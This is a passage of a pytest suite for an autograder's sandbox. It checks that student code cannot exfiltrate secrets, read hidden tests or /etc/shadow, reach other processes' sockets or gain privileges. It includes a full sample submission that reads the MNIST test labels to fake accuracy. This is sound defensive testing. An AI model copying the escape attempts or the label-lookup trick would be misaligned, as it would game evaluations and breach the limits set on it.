    assert "/" not in rules


def test_read_rules_leave_out_links_to_protected_folders(tmp_path):
    (tmp_path / "repo" / "tests").mkdir(parents=True)
    (tmp_path / "alias").symlink_to(tmp_path / "repo")
    (tmp_path / "into").symlink_to(tmp_path / "repo" / "tests")
    (tmp_path / "lib").mkdir()
    (tmp_path / "lib-link").symlink_to(tmp_path / "lib")
    rules = confine.read_rules([str(tmp_path / "repo")], [])
    assert str(tmp_path / "alias") not in rules and str(tmp_path / "into") not in rules
    assert str(tmp_path / "lib-link") in rules


def test_the_worker_environment_is_an_allow_list():
    env = confine.worker_env({"PATH": "/bin", "GITHUB_TOKEN": "x", "AWS_SECRET_ACCESS_KEY": "y", "LC_ALL": "C"}, "/s")
    assert env == {"PATH": "/bin", "LC_ALL": "C", "HOME": "/s", "TMPDIR": "/s"}


def test_teacher_mode_warns_when_submissions_run_unconfined(demo_repo, grade_cli, tmp_path):
    submission = tmp_path / "alice" / "ch01_demo"
    submission.mkdir(parents=True)
    (submission / "ex01_passes.py").write_text("def add(a, b):\n    return a + b\n")
    args = ("ch01.ex01", "--submission", str(tmp_path / "alice"))
    unconfined = grade_cli(demo_repo, *args, env={"TORCHKATA_NO_CONFINE": "1"})
    assert unconfined.returncode == 0, unconfined.stderr
    assert "runs unconfined: TORCHKATA_NO_CONFINE is set; see SECURITY.md" in unconfined.stderr
    if confine.landlock_abi():
        assert "unconfined" not in grade_cli(demo_repo, *args).stderr


def test_batch_mode_keeps_classmates_and_the_gradebook_out_of_reach(hostile_run, grade_cli, folder_snapshot):
    """`grade batch` runs its own judges: alice cannot copy bob's answer nor fake the gradebook."""
    subs, out = hostile_run["submissions"], hostile_run["base"] / "batch"
    carol = subs / "carol" / "ch01_demo"  # graded after alice by the same judge: finds what she left?
    carol.mkdir(parents=True, exist_ok=True)
    (carol / "ex40_leaves_shared_memory.py").write_text(SHM_READER)
    before = folder_snapshot(subs)
    proc = grade_cli(hostile_run["root"], "batch", *(str(subs / name) for name in ("alice", "bob", "carol")),
                     "--out", str(out), "--targets", "ch01.ex21", "ch01.ex35", "ch01.ex40", "ch01.ex98",
                     timeout=BUDGET, env={"TMPDIR": str(hostile_run["temp"])})
    assert proc.returncode == 0, proc.stderr[-2000:]
    rows = {r["student"]: r for r in csv.DictReader((out / "gradebook.csv").open())}
    assert [rows["alice"]["total"], rows["bob"]["total"]] == ["1", "1"]  # alice: her honest kata only
    assert rows["alice"]["ch01.ex35"] == "0" and rows["bob"]["ch01.ex35"] == "1"
    assert rows["carol"]["ch01.ex40"] == "0", (out / "logs" / "carol.txt").read_text()[-2000:]
    assert glob.glob("/dev/shm/*kata-was-here*") == []
    assert folder_snapshot(subs) == before
    assert json.loads((out / "students" / "bob.json").read_text())["summary"]["points"] == 1



def test_the_process_limit_counts_threads_too():
    """RLIMIT_NPROC counts every thread of the user: so must the headroom given to a worker."""
    if not os.path.isdir("/proc"):
        pytest.skip("needs /proc")
    started = threading.Event()
    threads = [threading.Thread(target=started.wait) for _ in range(5)]
    for thread in threads:
        thread.start()
    try:
        assert confine._user_tasks() >= threading.active_count()
    finally:
        started.set()


def test_the_system_call_filter_knows_this_machine_or_says_so():
    """filter_system_calls() either installs (in a child, which it changes for good) or says no.
    Installed: no network sockets, no namespaces; threads, fork and Unix sockets still work."""
    import ctypes
    import platform

    pid = os.fork()
    if pid == 0:  # the child: try it, report through the exit code
        try:
            installed = confine.filter_system_calls()
            if not installed:
                os._exit(4)
            libc = ctypes.CDLL(None, use_errno=True)
            if libc.unshare(0x10000000) == 0 or ctypes.get_errno() != 1:  # CLONE_NEWUSER: EPERM
                os._exit(6)
            socket.socketpair()[0].close()  # Unix sockets stay
            thread = threading.Thread(target=lambda: None)
            thread.start()  # pthread_create: clone3 refused (ENOSYS), clone without namespaces allowed
            thread.join()
            child = os.fork()
            if child == 0:
                os._exit(0)
            os.waitpid(child, 0)
            try:
                socket.socket(socket.AF_INET, socket.SOCK_DGRAM).close()
            except PermissionError:
                os._exit(0)
            os._exit(3)
        except BaseException:  # noqa: BLE001
            os._exit(5)
    code = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
    assert code == (0 if platform.machine() in ("x86_64", "aarch64") else 4)



# -- the template, root, progress, replies, hidden tests (SECURITY.md, "The boundary") -------
def test_no_worker_can_obtain_a_process_from_the_template(hostile_run):
    """The kata tried the old forkserver address, the template's descriptors (pidfd_getfd,
    /proc/PPID/fd), every Unix socket on the machine and its own connection: an unconfined
    process would have copied the solution into its folder and left a file in the reports."""
    kata = hostile_run["by_id"]["ex38_reaches_the_template"]
    assert kata["status"] == "failing"
    assert "forkserver: sent" not in kata["output"] and "opened" not in kata["output"]
    assert hostile_run["planted"] == []


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0,
                    reason="what a root judge's workers may touch: run the suite as root to check it")
def test_a_root_judge_gives_its_workers_no_privileges(hostile_run):
    out = hostile_run["by_id"]["ex39_root_privileges"]["output"]
    ids = next(line for line in out.splitlines() if line.startswith("ids:"))
    assert "uid=0 " not in ids and "euid=0 " not in ids and "groups=[]" in ids, ids
    assert "GOT" not in out and "OPENED" not in out, out
    assert "bounding: []" in out and "capabilities: [0, 0, 0, 0, 0, 0]" in out and "no_new_privs: 1" in out, out
    everything = hostile_run["proc"].stdout + "".join(p.read_text() for p in hostile_run["reports"].iterdir())
    assert "root:" not in everything  # no line of /etc/shadow


def test_progress_events_cannot_hold_the_deadline(hostile_run):
    """Events over the size limit fail the kata at once; a flood of small ones is read and
    dropped while the deadline runs out as usual."""
    by_id = hostile_run["by_id"]
    assert by_id["ex41_floods_big_progress"]["duration"] < 3
    assert by_id["ex42_floods_small_progress"]["duration"] < 3 + 3


def test_the_hidden_test_never_reaches_the_worker(hostile_run):
    kata = hostile_run["by_id"]["ex46_reads_the_hidden_test"]
    assert kata["status"] == "failing", kata["output"][:3000]
    assert HIDDEN not in kata["output"] and "def test_" not in kata["output"], kata["output"][:2000]
    for kid in HOSTILE:
        assert HIDDEN not in hostile_run["by_id"][kid]["output"]


needs_root = pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0,
                                reason="needs root (to provoke, or to switch to another user)")


@needs_root
@needs_landlock
def test_a_root_judge_that_cannot_make_its_workers_unprivileged_refuses(demo_repo, tmp_path):
    """The scratch root lies in a folder only root may enter, and the judge cannot mount
    (Landlock forbids it, as some containers do): its workers would have to run as root,
    so it grades nothing and says why (exit 2)."""
    import subprocess

    private = tmp_path / "private"
    (private / "tmp").mkdir(parents=True)
    private.chmod(0o700)
    env = {**os.environ, "TORCHKATA_ROOT": str(demo_repo), "TORCHKATA_LANG": "en", "TMPDIR": str(private / "tmp")}
    proc = subprocess.run([sys.executable, "-m", "grader", "ch01.ex01", "--no-color"], cwd=demo_repo, env=env,
                          capture_output=True, text=True, timeout=300,
                          preexec_fn=lambda: confine.restrict([("/", confine.ALL)]))  # everything, but no mount
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert "workers cannot run unprivileged" in proc.stderr and "TORCHKATA_NO_CONFINE=1" in proc.stderr
    assert "Traceback" not in proc.stderr


def _as_nobody(readable):
    """preexec_fn: a mount namespace where `nobody` reaches Python and the course, then nobody."""
    from grader.sandbox import identity

    def become() -> None:
        libc = __import__("ctypes").CDLL(None, use_errno=True)
        libc.unshare(0x00020000)
        libc.mount(None, b"/", None, (1 << 14) | (1 << 18), None)  # MS_REC | MS_PRIVATE
        identity.make_reachable(readable)
        os.setgroups([])
        os.setresgid(65534, 65534, 65534)
        os.setresuid(65534, 65534, 65534)

    return become


@needs_root
@needs_landlock
def test_a_regular_user_judge_keeps_the_boundary_too(tmp_path_factory, kata_repo):
    """The same attacks, graded by a judge that is not root (here `nobody`): its workers
    share its uid, so what keeps them apart is Landlock, the user namespace's private
    /dev/shm and the template's socket pair."""
    import subprocess
    import tempfile

    base = Path(tempfile.mkdtemp(prefix="kata-nobody-test-"))
    try:
        base.chmod(0o755)
        kids = ["ex36_exfiltrates", "ex38_reaches_the_template", "ex40_leaves_shared_memory",
                "ex46_reads_the_hidden_test", "ex47_clone_parent", "ex48_connects_to_local_sockets", *HONEST]
        root = kata_repo(base / "repo", {k: "def scale(x):\n    raise NotImplementedError\n" for k in kids},
                         SOLUTION, TEST, {k: 2 for k in kids})
        reports = base / "reports"
        reports.mkdir()
        token = f"kata-nobody-{os.getpid()}"
        agent = _UnixListener(Path(tempfile.mkdtemp(prefix="kata-agent-")) / "agent")  # the user's own agent
        agent_dir = Path(agent.path).parent
        agent_dir.parent.chmod(0o755)
        os.lchown(agent_dir, 65534, 65534)
        os.lchown(agent.path, 65534, 65534)
        fields = {"root": str(root), "reports": str(reports), "submissions": str(base / "subs"), "port": 9,
                  "grader": str(Path(grader.__file__).parent), "home": "/nonexistent", "token": token,
                  "other_report": "/nonexistent", "agent": agent.path}
        alice = base / "subs" / "alice" / "ch01_demo"
        alice.mkdir(parents=True)
        for kid in kids:
            body = HONEST.get(kid) or HEADER + _fill(HOSTILE[kid], fields)
            (alice / f"{kid}.py").write_text(body)
        for path in [base, *base.rglob("*")]:
            os.lchown(path, 65534, 65534)
        readable = [sys.base_prefix, sys.prefix, str(Path(grader.__file__).parents[1]), str(base)]
        env = {"PATH": os.environ["PATH"], "TORCHKATA_ROOT": str(root), "TORCHKATA_LANG": "en", "TMPDIR": "/tmp",
               "HOME": "/nonexistent", "KATA_TEST_SECRET": SECRET, "COLUMNS": "200"}
        proc = subprocess.run([sys.executable, "-m", "grader", "ch01", "--submission", str(base / "subs" / "alice"),
                               "--json", str(reports / "report.json"), "--timeout", "3", "--no-color"],
                              cwd=base, env=env, capture_output=True, text=True, timeout=BUDGET,
                              preexec_fn=_as_nobody(readable))
        assert (reports / "report.json").exists(), proc.stdout[-3000:] + proc.stderr[-3000:]
        report = json.loads((reports / "report.json").read_text())
        by_id = {k["full_key"].split(".")[1]: k for k in report["katas"]}
        assert report["summary"]["points"] == 1, proc.stdout[-3000:]
        assert {kid: k["status"] for kid, k in by_id.items()} == {**dict.fromkeys(kids, "failing"),
                                                                    "ex98_honest_right": "passed"}
        assert "nothing found" in by_id["ex36_exfiltrates"]["message"]
        assert HIDDEN not in by_id["ex46_reads_the_hidden_test"]["output"]
        assert sorted(p.name for p in reports.iterdir()) == ["report.json"]
        assert glob.glob(f"/dev/shm/*{token}*") == []
        assert SECRET not in proc.stdout + proc.stderr + (reports / "report.json").read_text()
        assert _survivors(MARK) == []
        assert agent.received == b"", agent.received
        agent.close()
    finally:
        import shutil

        shutil.rmtree(base, ignore_errors=True)


def test_no_worker_reaches_a_unix_socket_beside_the_grader(hostile_run):
    """A socket anyone may connect to, in the temporary folder (like an ssh-agent's), and the
    sockets under /run: the worker finds nothing there to connect to."""
    assert hostile_run["agent"].received == b""
    assert "connected:" not in hostile_run["by_id"]["ex48_connects_to_local_sockets"]["output"]


LOOKUP_CAPSTONE = '''"""A capstone that trains nothing: it reads the test split and looks each image up."""
import gzip
import os

import torch
from torch import nn


class Lookup(nn.Module):
    def __init__(self, table):
        super().__init__()
        self.table = table

    def forward(self, x):
        keys = [tuple((row * 1000).round().to(torch.int32).flatten().tolist()[:200:7]) for row in x]
        out = torch.zeros(len(x), 10)
        for i, key in enumerate(keys):
            out[i, self.table.get(key, 0)] = 1.0
        return out


def _read(path):
    data = open(path, "rb").read()
    return gzip.decompress(data) if path.endswith(".gz") else data


def train_mnist(data_dir, progress=None):
    table = {}
    for folder in {data_dir, os.path.join(REPO, "data"), os.path.join(REPO, ".grade", "data")}:
        raw = os.path.join(folder, "MNIST", "raw")
        for suffix in ("", ".gz"):
            try:
                labels = _read(os.path.join(raw, "t10k-labels-idx1-ubyte" + suffix))[8:]
                pixels = bytearray(_read(os.path.join(raw, "t10k-images-idx3-ubyte" + suffix))[16:])
                images = torch.frombuffer(pixels, dtype=torch.uint8).reshape(-1, 28, 28)
            except OSError as e:
                print("cannot read the test split:", e)
                continue
            x = ((images.float() / 255 - 0.1307) / 0.3081)
            for row, label in zip(x, labels):
                table[tuple((row * 1000).round().to(torch.int32).flatten().tolist()[:200:7])] = label
    print("test images found with their labels:", len(table))
    return Lookup(table)
'''


@needs_landlock
def test_the_capstone_cannot_look_up_the_test_labels(tmp_path, grade_cli):
    """Its worker reads only the training split: neither the data folder it is given nor the
    repository's data/ holds test labels it can open."""
    source = tmp_path / "ch07_mnist"
    source.mkdir()
    repo = str(Path(grader.__file__).parents[1])
    (source / "ex05_capstone.py").write_text(LOOKUP_CAPSTONE.replace("REPO", repr(repo)))
    proc = grade_cli(Path(grader.__file__).parents[1], "ch07.ex05", "--source", str(tmp_path), "--json",
                     str(tmp_path / "r.json"), timeout=600)
    kata = json.loads((tmp_path / "r.json").read_text())["katas"][0]
    assert kata["status"] == "failing", proc.stdout[-2000:]
    assert kata["metrics"].get("accuracy", 0) < 0.5
    found = int(kata["output"].split("test images found with their labels:")[1].split()[0])
    assert found < 100, kata["output"][-2000:]  # the ten blank stand-ins at most, never the 10 000
